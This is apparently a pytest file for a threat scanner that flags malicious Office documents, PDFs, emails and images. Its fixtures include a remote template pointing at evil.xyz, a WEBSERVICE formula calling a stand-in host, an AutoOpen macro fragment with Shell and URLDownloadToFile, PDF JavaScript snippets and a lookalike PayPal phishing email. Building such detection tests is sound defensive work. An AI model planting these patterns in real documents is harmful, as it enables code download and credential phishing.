"""Findings of files, containers, mail and images, on small inputs of our own."""

import io
import struct
import zipfile
import zlib

import pytest
from pyspark.sql import functions as F

from threatscan.operators import documents as D
from threatscan.operators import findings as N
from threatscan.operators import mail as M
from threatscan.operators import url_findings as K
from threatscan.sources import files as S

REL = '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.xyz/t.dotm" TargetMode="External"/></Relationships>'
CORE = "<cp:coreProperties><dc:creator>admin</dc:creator><cp:revision>1</cp:revision><dcterms:created>2024-01-01T00:00:00Z</dcterms:created><dcterms:modified>2024-01-01T00:00:01Z</dcterms:modified></cp:coreProperties>"


def container(parts):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return b.getvalue()


@pytest.fixture(scope="module")
def office(spark, tmp_path_factory):
    at = tmp_path_factory.mktemp("office")
    files = {
        "a.docx": container({"word/document.xml": "<w:t>Verify your account</w:t><w:t> now</w:t>", "word/_rels/settings.xml.rels": REL, "docProps/core.xml": CORE, "word/embeddings/oleObject1.bin": b"MZ\x90\x00"}),
        "b.xlsx": container({"xl/workbook.xml": '<sheet name="s" state="veryHidden"/><sheet state="hidden"/>', "xl/worksheets/sheet1.xml": '<c r="A1" t="s"><v>1</v></c><c r="B1"><f>WEBSERVICE("http://e.xyz")</f><v>0</v></c><c r="C1"><v>7</v></c>', "xl/sharedStrings.xml": "<si><t>zero</t></si><si><t>one</t></si>", "xl/connections.xml": "OLEDB Provider=x http://e.xyz/q"}),
        "c.pptx": container({"ppt/presentation.xml": '<p:sldId show="0"/>', "ppt/slides/slide1.xml": "<a:t>hi</a:t>", "ppt/slides/slide2.xml": '<p:timing><p:cmd/><p:cTn delay="0"></p:timing><a:t>secret</a:t>hlinkClick<a:noFill/>', "ppt/media/i.png": b"MZ no png"}),
        "bad.docx": b"no zip",
        "note.txt": b"x",
    }
    for n, data in files.items():
        (at / n).write_bytes(data)
    return S.read_files(spark, str(at)).withColumn("id", F.element_at(F.split("path", "/"), -1))


def kinds(df, id_):
    return sorted(r.finding for r in df.filter(F.col("id") == id_).collect())


def test_dispatch(spark, office):
    got = {r.id: (r.extension, r.format, r.reject_reason) for r in S.dispatch(office.select("id", "path", "length").unionAll(spark.createDataFrame([("empty.docx", "/in/empty.docx", 0), ("?", None, 5)], "id string, path string, length long"))).collect()}
    assert got["a.docx"] == (".docx", "Word", None) and got["empty.docx"][2] == "empty" and got["?"][2] == "missing_name" and got["note.txt"][2] == "unsupported"


def test_office_findings(spark, office):
    parts = S.ooxml_parts(office.filter("id like '%.docx' or id like '%.xlsx' or id like '%.pptx'"), key="id").cache()
    docx, xlsx, pptx = (parts.filter(f"id like '%.{e}'") for e in ("docx", "xlsx", "pptx"))
    got = kinds(D.part_findings(docx, "docx"), "a.docx")
    assert {"external_template", "embedded_ole_object", "embedded_executable"} <= set(got) and "suspicious_relationship" not in got  # its mode comes last
    meta = D.metadata_findings(office.filter("id like '%.docx'"), docx, "docx")
    assert kinds(meta, "a.docx") == ["suspicious_metadata"] * 3 and kinds(meta, "bad.docx") == ["wiped_metadata"]
    assert kinds(D.missing_parts(office.filter("id like '%.docx'"), docx, "docx"), "bad.docx") == ["corrupted_structure", "malformed_zip"]
    assert {r.id: r.text for r in S.office_text(parts).collect()}["a.docx"] == "Verify your account  now"
    got = kinds(D.part_findings(xlsx, "xlsx"), "b.xlsx")
    assert got.count("very_hidden_sheet") == 2 and got.count("hidden_sheet") == 1 and {"ole_db_connection", "suspicious_connection", "external_data_connection"} <= set(got)
    cells = S.workbook_cells(xlsx)
    assert {r.ref: r.value for r in cells.collect()} == {"A1": "one", "B1": '=WEBSERVICE("http://e.xyz")', "C1": "7"}
    assert kinds(D.cell_findings(cells), "b.xlsx") == ["webservice_formula"]
    got = kinds(D.part_findings(pptx, "pptx"), "c.pptx")
    assert {"cmd_trigger_found", "zero_delay_trigger", "suspicious_animation", "action_button_found", "invisible_button", "media_type_mismatch", "embedded_executable"} <= set(got)
    assert kinds(D.hidden_slides(pptx), "c.pptx") == ["hidden_slide", "hidden_slide_with_content"]


def test_file_names(spark):
    df = spark.createDataFrame([("1", "/x/invoice.pdf.docx"), ("2", "/x/policy 2.0.docm"), ("3", "/x/a.png"), ("4", "x.docx")], "id string, path string")
    got = D.file_findings(df, "docx")
    assert [kinds(got, i) for i in "1234"] == [["double_extension"], ["malicious_macro"], ["file_type_mismatch"], []]
    assert kinds(D.file_findings(df.withColumn("path", F.lit("d.exe.pps")), "pptx"), "1") == ["double_extension", "pps_file"]


def test_pdf(spark):
    hex_script = b"app.launchURL('http://x'); eval(unescape('y')); var long = 'padding padding padding padding';".hex()
    raws = {"a": "/OpenAction" + "x" * 700 + "/JS", "b": "/OpenAction" + "x" * 900 + "/JS", "c": "1 0 obj " * 700 + "/URI", "d": hex_script, "e": "feff" + "0041" * 60, "f": "MZ\x90\x00", "g": "plain"}
    got = D.pdf_findings(spark.createDataFrame(list(raws.items()), "id string, raw string"))
    assert "openaction_detected" in kinds(got, "a") and "openaction_detected" not in kinds(got, "b")
    assert kinds(got, "c") == ["high_object_count"] and "hex_payload" in kinds(got, "d") and "hex_payload" not in kinds(got, "e")
    assert kinds(got, "f") == ["embedded_executable"] and kinds(got, "g") == []
    pages = spark.createDataFrame([("p", 1, "short", 1), ("q", 1, "t" * 200, 0)], "id string, page int, text string, n_images int")
    links = spark.createDataFrame([("p", 1, "x", "http://a")], "id string, page int, visible_text string, url string")
    assert kinds(D.pdf_page_findings(pages, links), "p") == ["clickable_image_overlay", "single_image_pdf"]


def test_macros_scores_and_chains(spark):
    code = spark.createDataFrame([("m", 'Sub AutoOpen()\nShell("cmd")\nURLDownloadToFile\n"a" & "b"')], "id string, code string")
    found = D.macro_findings(code, "docx").cache()
    got = kinds(found, "m")
    assert {"malicious_macro", "autoopen_macro", "suspicious_vba_api", "network_call_in_vba", "string_obfuscation", "known_macro_signature"} <= set(got)
    assert kinds(N.chains(found, "docx"), "m") == ["download_execute_pattern"]
    assert "vba_macro_detected" in kinds(D.macro_findings(code, "pptx"), "m")


def test_scores(spark):
    bags = {"none": [], "two": ["suspicious_url", "phishing_keyword"], "four": ["malicious_macro", "hidden_script", "suspicious_url", "qr_malicious_url"], "odd": ["what", "what"]}
    rows = [(k, i, f) for k, v in bags.items() for i, f in enumerate(v)]
    w = N.weighed(spark.createDataFrame(rows, "id string, ord int, finding string"), N.weight_table(spark))
    got = {r.id: (r.score, r.verdict, r.severity) for r in N.document_scores(w).collect()}
    assert got == {"two": (25, "Safe", "LOW"), "four": (100, "Phishing", "CRITICAL"), "odd": (10, "Safe", "LOW")}
    own = N.weighed(spark.createDataFrame([("x", 0, "what")], "id string, ord int, finding string"), N.weight_table(spark, {"what": 70}))
    assert N.document_scores(own).first().score == 70
    top = {r.id: [b.finding_type for b in r.breakdown] for r in N.document_scores(w).collect()}
    assert top["four"] == ["malicious_macro", "qr_malicious_url", "hidden_script", "suspicious_url"]


def test_analyzers(spark):
    N.analyzer("all")(lambda df: df.select("id", F.lit(0).alias("ord"), F.lit("suspicious_url").alias("finding")))
    N.analyzer("some")(lambda df: df.filter("id > 1").select("id", F.lit(1).alias("ord"), F.lit("dde_attack").alias("finding")))
    ids = spark.createDataFrame([(1,), (2,)], "id long")
    assert sorted((r.id, r.finding) for r in N.analyzed({"all": ids, "some": ids}).collect()) == [(1, "suspicious_url"), (2, "dde_attack"), (2, "suspicious_url")]


def test_url_findings(spark):
    urls = [("http://192.168.0.1/login", ["ip_based_url", "suspicious_url", "suspicious_url"]), ("https://bit.ly/x", ["shortened_url"]), ("https://user@a.tk", ["suspicious_tld", "at_symbol_trick"]), ("https://ok.org/authenticate", ["suspicious_url"]), ("https://exámple.com", ["homograph_domain"])]
    df = spark.createDataFrame(urls, "url string, want array<string>").select("want", K.url_findings(F.col("url"), "pdf").alias("got"))
    for r in df.collect():
        assert r.got == r.want
    many = spark.createDataFrame([("x", f"https://ok.org/{i}") for i in range(11)], "id string, url string")
    assert kinds(K.url_finding_rows(many, "docx"), "x") == ["suspicious_url"]


MAIL = b"""From: "PayPal Support" <security@paypa1-support.ru>\r\nReply-To: no-reply@paypa1-login.com\r\nAuthentication-Results: mx; spf=fail; dkim=fail; dmarc=fail\r\nReceived-SPF: fail\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nUrgent: verify your account at http://paypa1-login.com/verify. Now!\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>verify <a href="http://paypa1-login.com/verify">here</a></p>\r\n--b--\r\n"""


def test_mail(spark):
    files = spark.createDataFrame([("a.eml", MAIL), ("b.eml", b"From: news@example.com\r\nAuthentication-Results: spf=pass dkim=pass dmarc=pass\r\n\r\nhello there, all is well with us today and tomorrow")], "path string, content binary")
    mails = S.messages(files).cache()
    p = spark.createDataFrame([("a.eml", 0.95), ("b.eml", 0.05)], "id string, p double")
    got = {r.id: r for r in M.scan_mail(mails, p).collect()}
    assert got["a.eml"].verdict == "PHISHING" and got["a.eml"].score > 70 and "http://paypa1-login.com/verify" in got["a.eml"].urls
    assert len(got["a.eml"].header_flags) == 5 and got["a.eml"].severity == "CRITICAL"
    assert got["b.eml"].header_flags == [] and got["b.eml"].verdict == "SAFE"
    assert M.scan_mail(mails).filter("id = 'a.eml'").first().score < got["a.eml"].score
    mail_files = spark.createDataFrame([("not_an_email.txt", 5), ("x.eml", 0), ("y.EML", 3)], "path string, length long")
    assert [r.reject_reason for r in S.mail_rejects(mail_files).collect()] == ["not_eml", "empty", None]


def test_mail_scalars(spark):
    r = spark.range(1).select(
        M.urgency(F.lit("All is fine with the plan.")).alias("a"), M.urgency(F.lit("Your account is suspended, verify your password immediately")).alias("b"), M.urgency(F.lit("  ")).alias("c"),
        M.html_ratio(F.lit(""), F.lit("<p>")).alias("inf"), M.html_ratio(F.lit("ab"), F.lit("<p>abc")).alias("r"), M.display_name(F.lit("bob@x.y")).alias("n"), M.domain(F.lit("B <bob@X.y>")).alias("d"), M.received_spf(F.lit("SoftFail (x)")).alias("s"),
    ).first()
    assert 0 <= r.a < r.b <= 1 and r.c == 0 and r.inf == float("inf") and r.r == 3 and r.n == "bob" and r.d == "x.y" and r.s == "softfail"


def png(w, h, rgba):
    raw = b"".join(b"\x00" + bytes(rgba) * w for _ in range(h))
    chunk = lambda t, d: struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 6, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


def test_images(spark, tmp_path):
    (tmp_path / "white.png").write_bytes(png(120, 110, (255, 255, 255, 255)))
    (tmp_path / "clear.png").write_bytes(png(50, 50, (10, 200, 90, 0)))
    stats = {r.id.rsplit("/", 1)[1]: r for r in D.image_statistics(S.read_images(spark, str(tmp_path))).collect()}
    assert stats["white.png"].white_share == 1 and stats["white.png"].sigma == 0 and stats["clear.png"].clear_share == 1 and stats["clear.png"].width == 50
    row = ("i", "/a/x.png", "GIF8", 100_000, 120, 110, "SBI login: Username Password •••• https://secure-sbi.xyz/login paypa1.com khata", [70] * 20 + [10] * 60, ["http://bad.tk/login", "+441234567890"], 1.0, 0.0, 0.0)
    schema = "id string, path string, head string, size long, width int, height int, ocr_text string, ocr_conf array<int>, qr array<string>, white_share double, sigma double, clear_share double"
    got = set(kinds(D.image_findings(spark.createDataFrame([row], schema)), "i"))
    assert {"file_type_mismatch", "blurred_image", "ocr_phishing_text", "fake_login_page", "qr_code_detected", "qr_malicious_url", "qr_suspicious_url", "hindi_phishing_detected", "hidden_text_overlay", "low_contrast_text", "password_field_detected", "fake_submit_button", "fake_login_form_detected", "fake_address_bar", "fake_padlock_detected", "blur_evasion_detected", "suspicious_file_size", "homograph_domain"} <= got


def test_hash_pairs(spark):
    h = [(1, 0), (2, (1 << 9) - 1), (3, (1 << 10) - 1), (4, -1), (5, 0)]
    got = {(r.a, r.b): r.distance for r in D.hash_pairs(spark.createDataFrame(h, "id long, h long")).collect()}
    assert got == {(1, 2): 9, (2, 3): 1}


def test_history(spark, tmp_path):
    one = spark.createDataFrame([("u", 75, "Phishing")], "id string, score int, verdict string")
    mail = spark.createDataFrame([("m", 10, "SAFE")], "id string, score int, verdict string")
    h = S.history(one, one, mail)
    assert sorted(r.verdict for r in h.collect()) == ["Phishing", "Phishing", "Safe"]
    S.write_results(h, str(tmp_path / "out"))
    assert spark.read.parquet(str(tmp_path / "out")).filter("verdict = 'Safe'").count() == 1


def test_slide_macros(spark):
    words = {"a": "a shell", "b": "shell x.exe", "c": "open the door", "d": "HKEY_x https://e", "e": "createobject(", "f": "plain"}
    got = D.macro_findings(spark.createDataFrame(list(words.items()), "id string, code string"), "pptx")
    of = {k: set(kinds(got, k)) - {"vba_macro_detected", "suspicious_vba_api"} for k in words}
    assert of == {"a": set(), "b": {"shell_command"}, "c": {"file_system_access"}, "d": {"registry_access", "network_call_in_vba"}, "e": {"process_creation"}, "f": set()}
    streams = spark.createDataFrame([("x", "plain", 2)], "id string, code string, suspicious int")
    assert kinds(D.macro_findings(streams, "docx"), "x") == ["hidden_macro_stream"] * 2 + ["malicious_macro"]


def test_missing_slides_and_applications(spark):
    files = spark.createDataFrame([("a",), ("b",), ("c",)], "id string")
    parts = spark.createDataFrame([("a", 0, "ppt/presentation.xml", b"x", None), ("a", 1, "docProps/app.xml", b"<Application>Unknown Office</Application>", None), ("b", 0, "ppt/slides/slide1.xml", b"x", None), ("c", -1, None, None, "bad container")], "id string, entry_ord int, entry_name string, data binary, error string")
    got = D.missing_parts(files, parts, "pptx")
    assert (kinds(got, "a"), kinds(got, "b"), kinds(got, "c")) == (["malformed_zip"], [], ["file_type_mismatch"])
    meta = D.metadata_findings(files, parts, "pptx")
    assert "suspicious_metadata" in kinds(meta, "a") and "suspicious_metadata" not in kinds(meta, "b")
    links = parts.withColumn("entry_name", F.lit("xl/externalLinks/externalLink1.xml"))
    assert kinds(D.external_links(links), "a") == ["external_data_connection"]


def test_chain_phases(spark):
    bag = [("x", 0, "webservice_formula"), ("x", 1, "dde_attack"), ("y", 0, "vba_macro_detected"), ("y", 1, "network_call_in_vba")]
    df = spark.createDataFrame(bag, "id string, ord int, finding string")
    assert kinds(N.chains(df, "xlsx"), "x") == ["multistage_indicator"] * 2
    compat = N.chains(df, "xlsx", phase="compat")
    assert kinds(compat, "x") == ["multistage_indicator"] and compat.first().phase == "compat"
    assert kinds(N.chains(df, "docx"), "y") == []


def test_anchors_and_templates(spark):
    links = spark.createDataFrame([("a", " HTTP://Good.example ", "http://good.example"), ("b", "http://good.example", "http://evil.example"), ("c", "www.good.example", "http://evil.example"), ("d", "click", "http://x"), ("e", None, "http://x")], "id string, visible_text string, url string")
    assert sorted(r.id for r in K.anchor_finding_rows(links, "xlsx").collect()) == ["b"]
    assert sorted(r.id for r in K.anchor_finding_rows(links, "pdf").collect()) == ["b", "c"]
    known = spark.createDataFrame([(0,), (-1,)], "h long")
    images = spark.createDataFrame([("near", (1 << 9) - 1), ("far", (1 << 10) - 1), ("minus", -2), ("none", 0x0F0F0F0F0F0F0F0F)], "id string, h long")
    few = sorted(r.id for r in D.template_findings(images, known).collect())
    was, D.FEW_TEMPLATES = D.FEW_TEMPLATES, 1
    try:
        assert sorted(r.id for r in D.template_findings(images, known).collect()) == few == ["minus", "near"]
    finally:
        D.FEW_TEMPLATES = was
    failed = spark.createDataFrame([("i", "/x/a.png", "\x89PNG", 10, 400, 400, None, None, None, 0.1, 50.0, 0.0, "no text")], "id string, path string, head string, size long, width int, height int, ocr_text string, ocr_conf array<int>, qr array<string>, white_share double, sigma double, clear_share double, ocr_error string")
    assert "ocr_failed" in kinds(D.image_findings(failed), "i")


def test_hash_pairs_match_brute_force(spark):
    import random

    rng = random.Random(5)
    hs = [rng.getrandbits(64) for _ in range(40)]
    for h in hs[:30]:
        x = h
        for b in rng.sample(range(64), rng.randint(0, 12)):
            x ^= 1 << b
        hs.append(x)
    df = spark.createDataFrame([(i, h - (1 << 64) if h >> 63 else h) for i, h in enumerate(hs)], "id long, h long")
    first = {h: hs.index(h) for h in hs}
    ids = sorted(set(first.values()))
    want = sorted((a, b, bin(hs[a] ^ hs[b]).count("1")) for a in ids for b in ids if a < b and bin(hs[a] ^ hs[b]).count("1") <= 9)
    for agree in (None, 1, 3):
        assert sorted(map(tuple, D.hash_pairs(df, agree=agree).collect())) == want
    assert {r.id: r.representative for r in D.hash_members(df).collect()} == {i: first[h] for i, h in enumerate(hs)}


def test_lexicon_tables_beyond_the_row(spark, monkeypatch):
    docs = spark.createDataFrame([(1, "Verify your ACCOUNT now, verify your account"), (2, "act now"), (3, "v"), (4, None), (5, "")], "id long, text string")
    lexicon = spark.createDataFrame([("t", "verify your account"), ("u", "act now"), ("u", "now"), ("w", "")], "category string, term string")
    few = sorted(map(tuple, N.phrase_hits(docs, lexicon).collect()))
    urls = spark.createDataFrame([("http://www.w3.org/x",), ("http://e.xyz",), (None,)], "url string")
    safe = spark.createDataFrame([("w3.org",), ("purl.org",)], "domain string")
    left = sorted(str(r.url) for r in K.without_safe(urls, safe).collect())
    monkeypatch.setattr(N, "FEW_TERMS", 1)
    monkeypatch.setattr(K, "FEW_DOMAINS", 1)
    assert sorted(map(tuple, N.phrase_hits(docs, lexicon).collect())) == few == [(1, "t", "verify your account", 2), (1, "u", "now", 1), (2, "u", "act now", 1), (2, "u", "now", 1)]
    assert sorted(str(r.url) for r in K.without_safe(urls, safe).collect()) == left == ["None", "http://e.xyz"]


def test_high_chunks_are_the_high_entropies(spark):
    texts = ["plain words " * 400, "".join(chr(33 + i % 94) for i in range(1000)), "".join(chr(0x4E00 + i) for i in range(5200)), "", None, "ab"]
    df = spark.createDataFrame([(t,) for t in texts], "t string").select(D.high_chunks(F.col("t"), 6.5).alias("n"), F.size(F.filter(D.chunk_entropies(F.col("t")), lambda e: e > 6.5)).alias("want"))
    for r in df.collect():
        assert r.n == max(r.want, 0)


def test_one_call_from_files_to_scores(spark, office):
    from threatscan.operators.scan import document_findings, scan_documents

    pdf = spark.createDataFrame([("d.pdf", "/in/d.pdf", 99, b"%PDF /OpenAction /JS verify your account http://1.2.3.4/login"), ("e.pdf", "/in/e.pdf", 5, b"plain"), ("p.png", "/in/p.png", 4, b"\x89PNG")], "id string, path string, length long, content binary")
    files = office.select("id", "path", "length", "content").unionAll(pdf)
    more = {"macros": spark.createDataFrame([("a.docx", "Sub AutoOpen() xmlhttp")], "id string, code string"), "links": spark.createDataFrame([("d.pdf", 1, "http://good.example", "http://evil.example")], "id string, page int, visible_text string, url string")}
    found = document_findings(files, more)
    assert {"download_execute_pattern", "external_template", "phishing_keyword", "multistage_indicator", "suspicious_metadata"} <= set(kinds(found, "a.docx"))
    assert {"very_hidden_sheet", "webservice_formula", "multistage_indicator"} <= set(kinds(found, "b.xlsx"))
    assert {"hidden_slide", "cmd_trigger_found"} <= set(kinds(found, "c.pptx"))
    assert {"openaction_detected", "phishing_keyword", "ip_based_url", "mismatched_anchor"} <= set(kinds(found, "d.pdf"))
    assert {(r.id, r.profile) for r in found.select("id", "profile").distinct().collect()} <= {("a.docx", "docx"), ("b.xlsx", "xlsx"), ("c.pptx", "pptx"), ("bad.docx", "docx"), ("d.pdf", "pdf"), ("p.png", "image")}
    got = {r.id: r for r in scan_documents(files, more).collect()}
    assert len(got) == files.count() and got["a.docx"].verdict == got["b.xlsx"].verdict == "Phishing"
    assert (got["e.pdf"].score, got["e.pdf"].verdict, got["e.pdf"].total_findings, got["e.pdf"].breakdown) == (0, "Safe", 0, [])
    assert got["note.txt"].reject_reason == "unsupported" and got["note.txt"].score is None


def parts_of(spark, parts):
    rows = [("f", i, name, data if isinstance(data, bytes) else data.encode(), None) for i, (name, data) in enumerate(parts)]
    return spark.createDataFrame(rows, "id string, entry_ord int, entry_name string, data binary, error string")


def found_in(spark, profile, *parts):
    return kinds(D.part_findings(parts_of(spark, parts), profile), "f")


def test_relationships_as_written(spark):
    first = '<Relationship TargetMode="External" Target="https://support.microsoft.com/x"/>'
    last = '<Relationship Target="file:///c:/a.exe" TargetMode="External"/>'
    for profile in ("docx", "xlsx"):
        assert found_in(spark, profile, ("x/_rels/a.rels", first)) == ["suspicious_relationship"]  # no host is safe here
        assert found_in(spark, profile, ("x/_rels/a.rels", last)) == []
        assert found_in(spark, profile, ("x/_rels/a.rels", '<Relationship TargetMode="External" Target="file:///c:/a"/>')) == []
        assert found_in(spark, profile, ("x/_rels/image.xml.rels", 'Target="http://a/b" Target="https://c/d"')) == ["external_image_tracker"] * 2
        assert found_in(spark, profile, ("x/_rels/b.rels", 'Target="http://a/b.png"')) == []
    assert found_in(spark, "pptx", ("ppt/_rels/a.rels", last)) == ["external_relationship"]
    assert found_in(spark, "pptx", ("ppt/_rels/a.rels", first)) == []
    evil = '<Relationship Type="http://x/slideTemplate" Target="https://evil.example/microsoft.com/t.PNG" TargetMode="External"/>'
    assert found_in(spark, "pptx", ("ppt/_rels/a.rels", evil)) == ["external_relationship", "image_tracker", "template_injection"]


def test_settings_name_outside_hosts(spark):
    text = "<w http://schemas.openxmlformats.org/a https://officeapps.live.com/b https://evil.example/c http://d.example>"
    assert found_in(spark, "docx", ("word/settings.xml", text)) == ["hidden_relationship"] * 2
    assert found_in(spark, "docx", ("word/_rels/settings.xml.rels", text)) == found_in(spark, "docx", ("word/webSettings.xml", text)) == []
    assert found_in(spark, "xlsx", ("xl/mySettings.xml", text)) == ["hidden_relationship"] * 3
    assert found_in(spark, "xlsx", ("xl/printerSettings1.bin", text)) == []


def test_executables_anywhere(spark):
    for profile in ("docx", "xlsx"):
        assert found_in(spark, profile, ("x/media/i.png", b"MZ\x90")) == ["embedded_executable"]
        for end in (".exe", ".dll", ".bat", ".scr", ".pif", ".com"):
            assert found_in(spark, profile, ("x/embeddings/a" + end, "x")) == ["embedded_executable", "embedded_ole_object"] + ["embedded_script"] * (end == ".bat")
        assert found_in(spark, profile, ("x/embeddings/a.PS1", "x")) == ["embedded_executable", "embedded_ole_object", "embedded_script"]
        assert found_in(spark, profile, ("x/embeddings/a.pdf.hta", "x")) == ["double_extension_payload", "embedded_executable", "embedded_ole_object", "embedded_script"]
        assert found_in(spark, profile, ("x/embeddings/_rels/a.bin.rels", "x")) == ["double_extension_payload", "embedded_ole_object"]
    assert found_in(spark, "pptx", ("ppt/media/a.gif", b"MZ\x90")) == ["embedded_executable"]
    assert found_in(spark, "pptx", ("ppt/media/a.bmp", "BAD")) == found_in(spark, "pptx", ("ppt/media/a.gif", "BAD")) == []
    assert found_in(spark, "pptx", ("ppt/media/a.jpeg", "BAD")) == found_in(spark, "pptx", ("ppt/media/a.png", "BAD")) == ["media_type_mismatch"]
    assert found_in(spark, "pptx", ("ppt/embeddings/a.docx", "x")) == []
    assert found_in(spark, "pptx", ("ppt/embeddings/a.bin", b"MZ\x90")) == ["embedded_ole_object", "mz_header_found"]
    assert found_in(spark, "pptx", ("ppt/embeddings/a.msi", "x")) == ["embedded_executable"]
    assert found_in(spark, "pptx", ("ppt/slides/slide1.xml", "<OLEOBJ>")) == ["embedded_ole_object"]
    assert found_in(spark, "pptx", ("ppt/slides/slide1.xml", "<p:oleObj>")) == ["embedded_ole_object", "package_object"]


def test_hidden_slides_are_one_finding(spark):
    deck = '<p:sldId id="1" show="0"/><p:sldId id="2" show="0" r:id="x"/><p:sldId id="3"/><p:other show="0"/>'
    slides = [("ppt/slides/slide9.xml", "<a:t>one</a:t>"), ("ppt/slides/slide1.xml", "<a:t> </a:t><a:t>two</a:t>"), ("ppt/slides/slide2.xml", "<a:t> </a:t>")]
    got = lambda *parts: kinds(D.hidden_slides(parts_of(spark, parts)), "f")
    assert got(("ppt/presentation.xml", deck), *slides) == ["hidden_slide", "hidden_slide_with_content"]
    assert got(("ppt/presentation.xml", deck), *reversed(slides)) == ["hidden_slide", "hidden_slide_with_content", "hidden_slide_with_content"]
    assert got(("ppt/presentation.xml", '<p:other show="0"/><p:sldId id="1"/>'), *slides) == []


def test_bare_images_in_pages(spark):
    pages = lambda *texts: spark.createDataFrame([("f", i, t, 1) for i, t in enumerate(texts)], "id string, page int, text string, n_images int")
    none = spark.createDataFrame([], "id string, page int, visible_text string, url string")
    got = lambda p, links=none, **more: kinds(D.pdf_page_findings(p, links, **more), "f")
    assert got(pages("Password EXPIRED")) == got(pages("http://1.2.3.4/x")) == ["single_image_pdf"]
    assert got(pages("just a scan")) == got(pages(None, "")) == got(pages("https://good.example.org")) == []
    link = spark.createDataFrame([("f", 0, "x", "https://good.example.org"), ("f", 0, "x", "")], "id string, page int, visible_text string, url string")
    assert got(pages("a scan"), link) == ["clickable_image_overlay", "single_image_pdf"]
    assert got(pages("a scan", "b"), link) == ["single_image_pdf"]
    anchors = spark.createDataFrame([("f", "mismatched_anchor"), ("g", "suspicious_url")], "id string, finding string")
    assert got(pages("a scan"), earlier=anchors) == ["single_image_pdf"]
    assert got(pages(" \n", "password expired" + " " * 90, "x")) == []  # white space counts between, not around
    assert got(pages(" \n" * 99, "password expired", "\t" * 99)) == ["single_image_pdf"]


def test_hex_of_utf16(spark):
    script = "eval(unescape('" + "x" * 60 + "'))"
    hexed = lambda b: b.hex()
    prose = "The quarterly report of our team, in plain words and some more of them"
    cases = {
        hexed(b"\xfe\xff" + prose.encode("utf-16-be")): (True, False), hexed(b"\xff\xfe" + prose.encode("utf-16-le")): (True, False), hexed(prose.encode("utf-16-be")): (True, False), hexed(script.encode()): (False, True), hexed(script.encode()) + "0": (False, False),
        hexed(b"\xfe\xff" + bytes(range(1, 250))): (False, False), hexed(b"\xfe\xff" + script.encode()): (True, False), hexed("0123456789 eval 0123456789".encode("utf-16-be")): (False, False), hexed(b"\xfe\xff\xd8\x00" + prose.encode("utf-16-be")): (True, False), hexed("😀 a smile in words".encode("utf-16-be")): (True, False),
    }
    rows = spark.createDataFrame([(h.upper(),) for h in cases] + [(h,) for h in cases], "h string").select("h", D.is_utf16_prose(F.col("h")).alias("prose"), D.suspicious_hex(F.col("h")).alias("bad")).collect()
    assert {r.h.lower(): (r.prose, r.bad) for r in rows} == cases


def test_entropy_chunks_of_odd_rows_equal_their_sql(spark, tmp_path):
    """Empty texts have no row and rows of one id are counted together, as in the SQL."""
    import duckdb

    import __spark_entry__ as entry

    varied = "".join(chr(0x21 + i % 90) for i in range(150))
    rows = [(1, None), (2, ""), (3, varied), (3, varied + "é漢😀" * 30), (4, "a" * 19), (5, varied * 50), (6, None), (6, varied), (7, varied), (7, ""), (None, varied), (None, "x"), (None, "")]
    spark.createDataFrame(rows, "doc_id long, text string").write.parquet(str(tmp_path / "documents.parquet"))
    con = duckdb.connect()
    con.execute(f"CREATE VIEW documents AS SELECT * FROM '{tmp_path}/documents.parquet/*.parquet'")
    in_order = lambda rows: sorted(map(tuple, rows), key=lambda r: (r[0] is None, r[0] or 0, r[1:]))
    want = in_order(con.execute(entry.oracle_sql()["doc_entropy_chunks"]).fetchall())
    assert in_order(entry.queries()["doc_entropy_chunks"](spark, str(tmp_path)).collect()) == want and [r[0] for r in want] == [1, 3, 4, 5, 6, 7, None]
